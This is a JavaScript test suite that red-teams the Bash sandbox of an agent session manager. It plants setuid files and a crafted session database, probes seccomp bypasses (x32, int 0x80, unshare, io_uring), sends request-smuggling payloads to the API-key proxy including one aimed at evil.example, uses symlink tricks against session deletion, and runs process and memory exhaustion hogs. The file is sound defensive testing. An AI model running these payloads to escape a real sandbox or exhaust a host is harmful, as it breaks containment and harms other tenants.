// Third attack round: payloads of an agent with Bash that the earlier attack suites do not cover.
// R-tests are attacks that GOT THROUGH when written (they fail until fixed); H-tests are attacks
// that held (regression tests). Each test asserts on what the attack would have achieved, with a
// control showing the attack itself ran. Run as root (as CI runs) and as an unprivileged user:
// `setpriv --reuid=65534 --regid=65534 --clear-groups env HOME=<a folder of 65534> node --test
// __test__/attacks-round3.test.mjs`.
import { test, before, after } from 'node:test'
import fs from 'node:fs'
import path from 'node:path'
import { spawnSync } from 'node:child_process'
import { addon, makeManager, startStandInServer, tempDir, workDir } from './helpers.mjs'
import { fields, mark, messageCalls, requireSandbox, runBash } from './attack-helpers.mjs'

let server
before(async () => {
  server = await startStandInServer()
})
after(async () => {
  await server.close()
})

const isRoot = process.getuid?.() === 0
const setpriv = ['/usr/bin/setpriv', '/bin/setpriv'].find((p) => fs.existsSync(p))



/** Writes `text` to `file` inside the sandbox (a quoted heredoc: no expansion). */
const writeFile = (file, text) => `cat > ${file} <<'CSM_EOF'\n${text}\nCSM_EOF`

const hasGcc = fs.existsSync('/usr/bin/gcc') || fs.existsSync('/usr/bin/cc')

// ---------------------------------------------------------------------------------------------
// Attacks that got through (expected to FAIL until fixed)
// ---------------------------------------------------------------------------------------------

test('R1. the agent cannot leave a setuid or setgid file on the host through its working directory or its configuration folder', async (t) => {
  server.reset()
  const { manager, work, dir } = makeManager({ server })
  if (!(await requireSandbox(t, manager))) return
  // A program that prints who it runs as; the agent compiles it (or copies id) and sets the bits.
  const src = '#include <stdio.h>\n#include <unistd.h>\nint main(void){printf("RUID=%d EUID=%d\\n",(int)getuid(),(int)geteuid());return 0;}'
  const command = [
    'echo START=1',
    writeFile('/tmp/who.c', src),
    hasGcc ? '(gcc -o ./who /tmp/who.c || cp /usr/bin/id ./who)' : 'cp /usr/bin/id ./who',
    'chmod 4755 ./who && echo SUID=set',
    'cp ./who ./whog && chmod 2755 ./whog && echo SGID=set',
    'mkdir -p sgid_dir && chmod 2777 sgid_dir && echo SGIDDIR=set',
    'cp ./who "$CLAUDE_CONFIG_DIR/who" && chmod 4755 "$CLAUDE_CONFIG_DIR/who" && echo CONFSUID=set',
    'echo DONE=1',
  ].join('\n')
  try {
    const { r, output } = await runBash(manager, server, command)
    t.assert.strictEqual(r.success, true, JSON.stringify(r.error))
    t.assert.strictEqual(fields(output).DONE, '1', `the probe ran:\n${output}`)
    const planted = [path.join(work, 'who'), path.join(work, 'whog'), path.join(work, 'sgid_dir')]
    for (const root of fs.readdirSync(path.join(dir, 'claude-config'))) planted.push(path.join(dir, 'claude-config', root, 'who'))
    const found = planted.filter((p) => fs.existsSync(p))
    t.assert.ok(found.includes(path.join(work, 'who')), `control: the agent's file is on the host:\n${output}`)
    for (const p of found) {
      const st = fs.statSync(p)
      t.assert.strictEqual(st.mode & 0o6000, 0, `${p} is ${(st.mode & 0o7777).toString(8)} owned by uid ${st.uid} on the host: a setuid/setgid file of the server's user planted by the agent\n${output}`)
    }
    // And, concretely: a local user running it does not become the server's user (root here).
    if (isRoot && setpriv) {
      fs.chmodSync(dir, 0o755) // a shared workspace folder is typically reachable
      const run = spawnSync(setpriv, ['--reuid=65534', '--regid=65534', '--clear-groups', path.join(work, 'who')], { encoding: 'utf8' })
      t.diagnostic(`as uid 65534: ${run.stdout.trim()} ${run.stderr.trim()}`)
      t.assert.doesNotMatch(run.stdout, /EUID=0\b|euid=0\(/, `a local user became root through the agent's file: ${run.stdout}`)
    }
  } finally {
    await manager.close()
  }
})

test('R2. an .env file the agent plants in a shared working directory does not stop the server from starting or serving it', async (t) => {
  server.reset()
  const { manager, work, options } = makeManager({ server })
  if (!(await requireSandbox(t, manager))) return
  try {
    const { r, output } = await runBash(manager, server, 'touch .env.local && echo PLANTED=1')
    t.assert.strictEqual(r.success, true, JSON.stringify(r.error))
    t.assert.strictEqual(fields(output).PLANTED, '1', `control: the agent planted the file:\n${output}`)
    t.assert.ok(fs.existsSync(path.join(work, '.env.local')), 'control: the file is on the host')
  } finally {
    await manager.close()
  }
  // The server restarts with the options it always had.
  let again
  try {
    again = new addon.SessionManager(options)
  } catch (e) {
    t.assert.fail(`the server cannot start any more because of a file mallory's agent planted: ${e.code} ${e.message}`)
  }
  try {
    server.enqueue({ text: 'bob answered' })
    const r = await again.executeTask({ prompt: 'hello', projectId: 'p', userId: 'bob', workingDirectory: work })
    t.assert.strictEqual(r.success, true, JSON.stringify(r.error))
  } finally {
    await again.close()
  }
})

test("R3. a database the agent plants at <workingDirectory>/.claude-sessions/ is never adopted; a session's stored folder outside its root is never bound", async (t) => {
  server.reset()
  // A host folder the agent must never see: root-owned when the server is root, 0755 with a 0600 secret.
  const hostDir = tempDir('csm-r3-host-')
  fs.chmodSync(hostDir, 0o755)
  const secret = mark('HOST_SECRET')
  fs.writeFileSync(path.join(hostDir, 'secret.txt'), `${secret}\n`, { mode: 0o600 })
  // The schema a database of this version has, from a manager of its own (what the agent can build
  // from the public migrations); one session of mallory whose folder is the host folder.
  const tpl = makeManager({ server })
  const { session } = await tpl.manager.getOrCreateSession({ projectId: 'p', userId: 'mallory' })
  await tpl.manager.close()
  const dump = spawnSync('sqlite3', [path.join(tpl.dir, 'sessions.db'), '.dump'], { encoding: 'utf8' })
  const version = spawnSync('sqlite3', [path.join(tpl.dir, 'sessions.db'), 'PRAGMA user_version'], { encoding: 'utf8' })
  if (dump.status !== 0 || version.status !== 0) return t.skip('the sqlite3 command is not installed: cannot build the planted database')
  const sql = `${dump.stdout}\nPRAGMA user_version=${version.stdout.trim()};\nUPDATE sessions SET working_directory='${hostDir}' WHERE id='${session.id}';\n`

  const base = tempDir()
  const work = workDir(base, 'shared')
  const { manager } = makeManager({ server, dir: base, workingDirectory: work })
  if (!(await requireSandbox(t, manager))) return
  const b64 = Buffer.from(sql).toString('base64')
  const plant = `mkdir -p .claude-sessions && echo '${b64}' | base64 -d > /tmp/x.sql && python3 -c "import sqlite3; c=sqlite3.connect('.claude-sessions/sessions.db'); c.executescript(open('/tmp/x.sql').read()); c.commit()" && echo PLANTED=1`
  try {
    const { r, output } = await runBash(manager, server, plant)
    t.assert.strictEqual(r.success, true, JSON.stringify(r.error))
    if (fields(output).PLANTED !== '1') return t.skip(`python3 with sqlite3 is not usable in the sandbox here:\n${output}`)
  } finally {
    await manager.close()
  }
  // The server starts again with an empty state folder (an ephemeral disk, a new node) and the same
  // working directory.
  const state = path.join(tempDir('csm-r3-state-'), 'state')
  const again = new addon.SessionManager({ workingDirectory: work, stateDirectory: state, warmIdleMs: 0, env: { ...server.env(), CLAUDE_CONFIG_DIR: path.join(base, 'claude-config') } })
  try {
    const sessions = await again.listSessions({ userId: 'mallory' })
    t.diagnostic(`mallory's sessions after the restart: ${JSON.stringify(sessions.map((s) => [s.id, s.workingDirectory]))}`)
    t.assert.ok(!sessions.some((s) => s.id === session.id), "the planted database was adopted: mallory's crafted session is in the server's store")
    // And whatever the store says, the crafted folder is not given to the agent.
    let reached = ''
    try {
      const { output } = await runBash(again, server, 'cat secret.txt 2>/dev/null; echo x > pwned_by_agent 2>/dev/null; echo DONE=1', { sessionId: session.id })
      reached = output
    } catch (e) {
      reached = `rejected ${e.code}`
    }
    t.assert.ok(!reached.includes(secret), `the agent read a host file through the planted session's folder:\n${reached}`)
    t.assert.ok(!fs.existsSync(path.join(hostDir, 'pwned_by_agent')), 'the agent wrote into a host folder through the planted session')
  } finally {
    await again.close()
  }
})

// Fixed by the key proxy's metering: every call on a task's token counts in that task's usage.
test("R4. the agent's own model calls with its task token are counted in the task's usage", async (t) => {
  server.reset()
  const { manager } = makeManager({ server })
  if (!(await requireSandbox(t, manager))) return
  const body = JSON.stringify({ model: 'claude-opus-4-1', max_tokens: 32000, messages: [{ role: 'user', content: 'x'.repeat(4000) }] })
  const command = [
    'echo START=1',
    `for i in 1 2 3 4 5; do curl -s -o /dev/null -w '%{http_code}\\n' -X POST "$ANTHROPIC_BASE_URL/v1/messages" -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' -H 'content-type: application/json' -d '${body}'; done | grep -c '^200$' | sed 's/^/SERVED=/'`,
    'echo DONE=1',
  ].join('; ')
  try {
    const from = server.requests.length
    const { r, output } = await runBash(manager, server, command)
    t.assert.strictEqual(r.success, true, JSON.stringify(r.error))
    const f = fields(output)
    t.assert.strictEqual(f.DONE, '1', `the probe ran:\n${output}`)
    const agentCalls = messageCalls(server).filter((q) => q.index >= from && q.body?.model === 'claude-opus-4-1').length
    t.diagnostic(`the agent's calls served upstream: ${agentCalls} (it saw ${f.SERVED} answered)`)
    // What upstream reported for every model call made on this task's token.
    const tokens = (u) => (u ? (u.input_tokens ?? 0) + (u.cache_read_input_tokens ?? 0) + (u.cache_creation_input_tokens ?? 0) + (u.output_tokens ?? 0) : 0)
    const served = server.responses.filter((x) => x.requestIndex >= from && x.kind !== 'count_tokens').reduce((s, x) => s + tokens(x.usage), 0)
    const u = r.usage
    const reported = u.inputTokens + u.outputTokens + u.cacheReadInputTokens + u.cacheCreationInputTokens
    if (agentCalls > 0) {
      t.assert.ok(reported >= served, `the task reports ${reported} tokens (cost ${r.cost}) but upstream served ${served} on its token: ${agentCalls} model calls the agent made itself are not counted`)
    } else {
      t.assert.strictEqual(Number(f.SERVED), 0, 'the agent\'s calls were answered but never reached upstream?')
    }
  } finally {
    await manager.close()
  }
})

test('R5. an agent cannot take the host\'s memory: with sandboxLimits.memoryMb 1024 a 1.5 GB allocation fails; the OOM killer picks the agent first', async (t) => {
  server.reset()
  const { manager } = makeManager({ server, sandboxLimits: { memoryMb: 1024 } })
  if (!(await requireSandbox(t, manager))) return
  // Bounded on purpose: 1.5 GB, touched page by page, then freed as the probe ends.
  const command = [
    'echo START=1',
    `python3 -c "
b = bytearray(1536*1024*1024)
for i in range(0, len(b), 4096): b[i] = 1
print('ALLOC=ok')" 2>/dev/null || echo ALLOC=refused`,
    'python3 -c "b = bytearray(64*1024*1024); print(\'SMALL=ok\')"',
    'echo OOM=$(cat /proc/self/oom_score_adj)',
    'echo DONE=1',
  ].join('; ')
  try {
    const { r, output } = await runBash(manager, server, command, { timeoutMs: 120000 })
    t.assert.strictEqual(r.success, true, JSON.stringify(r.error))
    const f = fields(output)
    t.assert.strictEqual(f.DONE, '1', `the probe ran:\n${output}`)
    t.assert.strictEqual(f.SMALL, 'ok', `control: 64 MB can be allocated:\n${output}`)
    t.assert.notStrictEqual(f.ALLOC, 'ok', `the agent held 1.5 GB of the host's memory (no memory limit on the sandbox):\n${output}`)
    t.assert.strictEqual(f.OOM, '1000', `the agent's processes are not the OOM killer's first choice:\n${output}`)
  } finally {
    await manager.close()
  }
})

// ---------------------------------------------------------------------------------------------
// Attacks that held (regression tests)
// ---------------------------------------------------------------------------------------------

const SYSCALLS_PY = `
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
sc = libc.syscall
sc.restype = ctypes.c_long
def t(name, nr, *args):
    r = sc(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    e = ctypes.get_errno()
    print(f"SC_{name}=" + ("ok" if r >= 0 else errno.errorcode.get(e, str(e))))
NEWUSER = 0x10000000
t('UNSHARE_USER', 272, NEWUSER)
t('UNSHARE_NS', 272, 0x20000)
t('X32_UNSHARE', 0x40000000 | 272, NEWUSER)
t('X32_IO_URING', 0x40000000 | 425, 8, 0)
t('IO_URING', 425, 8, 0)
t('USERFAULTFD', 323, 0)
t('PTRACE_TRACEME', 101, 0, 0, 0, 0)
t('PERSONALITY_SET', 135, 0x0400000)
t('KEYCTL', 250, 0, 0, 0)
t('BPF', 321, 0, 0, 0)
t('PERF_EVENT_OPEN', 298, 0, 0, 0, 0, 0)
t('MOUNT', 165, 0, 0, 0, 0, 0)
t('SETNS', 308, 0, 0)
t('OPEN_BY_HANDLE_AT', 304, 0, 0, 0)
t('FSOPEN', 430, 0, 0)
t('OPEN_TREE', 428, 0, 0, 0)
t('PIDFD_GETFD', 438, 0, 0, 0)
t('PROCESS_VM_READV', 310, 2, 0, 0, 0, 0, 0)
t('KEXEC_LOAD', 246, 0, 0, 0, 0)
t('INIT_MODULE', 175, 0, 0, 0)
t('IOPL', 172, 3)
r = sc(ctypes.c_long(56), ctypes.c_long(NEWUSER | 17), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
if r == 0:
    import os; print('SC_CLONE_NEWUSER=ok'); os._exit(0)
print('SC_CLONE_NEWUSER=' + ('ok' if r > 0 else errno.errorcode.get(ctypes.get_errno(), '?')))
import os
try:
    os.mknod('/tmp/devnull2', 0o20666, os.makedev(1, 3)); print('SC_MKNOD=ok')
except OSError as e:
    print('SC_MKNOD=' + errno.errorcode.get(e.errno, '?'))
`
const INT80_C = `#include <stdio.h>
int main(void) { long r;
  __asm__ volatile("int $0x80" : "=a"(r) : "a"(20) : "memory");
  printf("INT80_GETPID=%ld\\n", r);
  __asm__ volatile("int $0x80" : "=a"(r) : "a"(310), "b"(0x10000000) : "memory");
  printf("INT80_UNSHARE=%ld\\n", r);
  return 0; }`

for (const warm of [false, true]) {
  const mode = warm ? 'warm' : 'cold'
  test(`H1. no seccomp bypass: x32 ABI, 32-bit int 0x80, raw clone(CLONE_NEWUSER), io_uring, userfaultfd, ptrace, process_vm_readv, mount API, mknod (${mode})`, async (t) => {
    server.reset()
    const { manager } = makeManager({ server, warmIdleMs: warm ? 60000 : 0 })
    if (!(await requireSandbox(t, manager))) return
    const command = [
      'echo START=1',
      writeFile('/tmp/sc.py', SYSCALLS_PY),
      'python3 /tmp/sc.py',
      ...(hasGcc ? [writeFile('/tmp/i80.c', INT80_C), 'gcc -o /tmp/i80 /tmp/i80.c 2>/dev/null && echo GCC=ok', '/tmp/i80; echo INT80_STATUS=$?'] : []),
      'echo DONE=1',
    ].join('\n')
    try {
      const { r, output } = await runBash(manager, server, command)
      t.assert.strictEqual(r.success, true, JSON.stringify(r.error))
      const f = fields(output)
      t.assert.strictEqual(f.DONE, '1', `the probe ran:\n${output}`)
      const calls = Object.keys(f).filter((k) => k.startsWith('SC_'))
      t.assert.ok(calls.length >= 20, `control: the syscall probe ran:\n${output}`)
      for (const k of calls) t.assert.notStrictEqual(f[k], 'ok', `${k} succeeded in the sandbox:\n${output}`)
      if (f.GCC === 'ok') {
        t.assert.ok(!('INT80_UNSHARE' in f) || Number(f.INT80_UNSHARE) < 0, `a 32-bit unshare(CLONE_NEWUSER) succeeded:\n${output}`)
        t.assert.ok(!('INT80_GETPID' in f), `32-bit syscalls are allowed (int 0x80 answered):\n${output}`)
        t.assert.notStrictEqual(f.INT80_STATUS, '0', `the int 0x80 program ran to its end:\n${output}`)
      }
    } finally {
      await manager.close()
    }
  })
}

const PROXY_PY = `
import os, socket
base = os.environ['ANTHROPIC_BASE_URL'][7:]
host, port = base.rsplit(':', 1)
tok = os.environ['ANTHROPIC_API_KEY']
B = '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hi"}]}'
def send(name, data):
    s = socket.create_connection((host, int(port))); s.settimeout(2)
    s.sendall(data.encode())
    out = b''
    try:
        while True:
            d = s.recv(65536)
            if not d: break
            out += d
    except Exception: pass
    s.close()
    st = [l.split(' ')[1] for l in out.decode('latin1').split('\\r\\n') if l.startswith('HTTP/1.')]
    print(f"P_{name}=" + ','.join(st), flush=True)
H = f"Host: x\\r\\nx-api-key: {tok}\\r\\ncontent-type: application/json\\r\\nanthropic-version: 2023-06-01\\r\\n"
good = f"POST /v1/messages HTTP/1.1\\r\\n{H}Content-Length: {len(B)}\\r\\n\\r\\n{B}"
send('PIPE_MODELS', good + f"GET /v1/models HTTP/1.1\\r\\n{H}\\r\\n")
send('PIPE_NOTOKEN', good + f"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {len(B)}\\r\\n\\r\\n{B}")
smug = "0\\r\\n\\r\\nGET /v1/models HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"
send('TE_CL', f"POST /v1/messages HTTP/1.1\\r\\n{H}Transfer-Encoding: chunked\\r\\nContent-Length: {len(smug)}\\r\\n\\r\\n{smug}")
send('CL_TE', f"POST /v1/messages HTTP/1.1\\r\\n{H}Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n{smug}")
send('UPGRADE', f"POST /v1/messages HTTP/1.1\\r\\n{H}Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nContent-Length: {len(B)}\\r\\n\\r\\n{B}GET /v1/models HTTP/1.1\\r\\n{H}\\r\\n")
send('ABSOLUTE', f"POST http://evil.example/v1/files HTTP/1.1\\r\\n{H}Content-Length: {len(B)}\\r\\n\\r\\n{B}")
send('CONNECT', f"CONNECT 127.0.0.1:5432 HTTP/1.1\\r\\n{H}\\r\\n")
send('H2C', f"GET /v1/models HTTP/1.1\\r\\n{H}Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\\r\\n\\r\\n")
send('TOKEN_IN_QUERY', f"POST /v1/messages?x-api-key={tok} HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {len(B)}\\r\\n\\r\\n{B}")
print('PDONE=1')
`

test('H2. the key proxy forwards nothing but POST /v1/messages under pipelining, request smuggling (TE.CL, CL.TE), Upgrade, absolute-form and CONNECT', async (t) => {
  server.reset()
  const { manager } = makeManager({ server })
  if (!(await requireSandbox(t, manager))) return
  const command = ['echo START=1', writeFile('/tmp/p.py', PROXY_PY), 'python3 /tmp/p.py', 'echo DONE=1'].join('\n')
  try {
    const from = server.requests.length
    const { r, output } = await runBash(manager, server, command)
    t.assert.strictEqual(r.success, true, JSON.stringify(r.error))
    const f = fields(output)
    t.assert.strictEqual(f.PDONE, '1', `the probe ran:\n${output}`)
    t.assert.match(f.P_PIPE_MODELS ?? '', /^200,40[34]$/, `control: the first pipelined request is served, the second refused:\n${output}`)
    t.assert.match(f.P_PIPE_NOTOKEN ?? '', /^200,401$/, `a pipelined request without the token is refused:\n${output}`)
    t.assert.match(f.P_TOKEN_IN_QUERY ?? '', /^401$/, output)
    const upstream = server.requests.slice(from).map((q) => `${q.method} ${q.path}`)
    t.assert.ok(upstream.length > 0, 'control: requests reached upstream')
    for (const u of upstream) t.assert.ok(/^POST \/v1\/messages(\/count_tokens)?$/.test(u), `the proxy forwarded ${u}:\n${upstream.join('\n')}`)
  } finally {
    await manager.close()
  }
})

test("H3. deleteSession follows no link the agent left in its transcript folder (the session's folder, a folder inside it, the project folder)", async (t) => {
  for (const variant of ['session-folder', 'inner', 'project-folder']) {
    server.reset()
    const victim = tempDir('csm-r3-victim-')
    fs.mkdirSync(path.join(victim, 'd'))
    fs.writeFileSync(path.join(victim, 'keep.txt'), 'x')
    fs.writeFileSync(path.join(victim, 'd', 'keep2.txt'), 'y')
    const { manager } = makeManager({ server })
    if (!(await requireSandbox(t, manager))) return
    try {
      const first = await runBash(manager, server, 'echo hi')
      t.assert.strictEqual(first.r.success, true, JSON.stringify(first.r.error))
      const sid = first.r.sessionId
      const cmd = {
        'session-folder': `cd "$CLAUDE_CONFIG_DIR"/projects/*/ && rm -rf ${sid} && ln -s ${victim} ${sid} && echo LINKED=1`,
        inner: `cd "$CLAUDE_CONFIG_DIR"/projects/*/ && mkdir -p ${sid} && ln -s ${victim} ${sid}/subagents && ln -s ${victim}/keep.txt ${sid}/f && echo LINKED=1`,
        'project-folder': `cd "$CLAUDE_CONFIG_DIR"/projects && s=$(ls | head -1) && mkdir -p ../moved && mv "./$s" ../moved/ && ln -s ${victim} "./$s" && echo LINKED=1`,
      }[variant]
      const second = await runBash(manager, server, cmd, { sessionId: sid })
      t.assert.strictEqual(fields(second.output).LINKED, '1', `control (${variant}): the agent made its link:\n${second.output}`)
      try {
        await manager.deleteSession(sid, 'mallory')
      } catch (e) {
        t.assert.strictEqual(e.code, 'TRANSCRIPT_UNSAFE', `${variant}: ${e.message}`)
      }
      t.assert.deepStrictEqual(fs.readdirSync(victim, { recursive: true }).map(String).sort(), ['d', 'd/keep2.txt', 'keep.txt'], `${variant}: deleteSession removed host files through the agent's link`)
    } finally {
      await manager.close()
    }
  }
})

test("H4. tenants' agents run as different uids: one agent's processes do not stop another tenant's agent from starting its tools", async (t) => {
  server.reset()
  const { manager } = makeManager({ server })
  if (!(await requireSandbox(t, manager))) return
  const req = (userId) => ({ prompt: 'run it', projectId: 'p', userId, permissionMode: 'acceptEdits', allowedTools: ['Bash'], timeoutMs: 120000 })
  const hog = 'n=0; for i in $(seq 1 600); do (sleep 30 &) 2>/dev/null && n=$((n+1)) || break; done; echo HOGGED=$n; sleep 15'
  try {
    server.enqueue({ toolUse: { name: 'Bash', input: { command: hog } } })
    const mallory = manager.executeTask(req('mallory'))
    // Mallory's tool is running (her first model call was answered with it).
    const t0 = Date.now()
    while (messageCalls(server).length < 1 && Date.now() - t0 < 30000) await new Promise((r) => setTimeout(r, 50))
    await new Promise((r) => setTimeout(r, 5000))
    const from = server.requests.length
    server.enqueue({ toolUse: { name: 'Bash', input: { command: 'echo BOB_UID=$(id -u); (true) && echo BOB_FORK=ok' } } }, { text: 'bob done' })
    const bob = await manager.executeTask(req('bob'))
    t.assert.strictEqual(bob.success, true, JSON.stringify(bob.error))
    const out = server.requests
      .slice(from)
      .flatMap((q) => (Array.isArray(q.body?.messages?.at(-1)?.content) ? q.body.messages.at(-1).content : []))
      .filter((c) => c.type === 'tool_result')
      .map((c) => (typeof c.content === 'string' ? c.content : JSON.stringify(c.content)))
      .join('\n')
    t.assert.strictEqual(fields(out).BOB_FORK, 'ok', `bob's agent could not start a process while mallory's held hers:\n${out}`)
    await mallory.catch(() => {})
  } finally {
    await manager.close()
  }
})
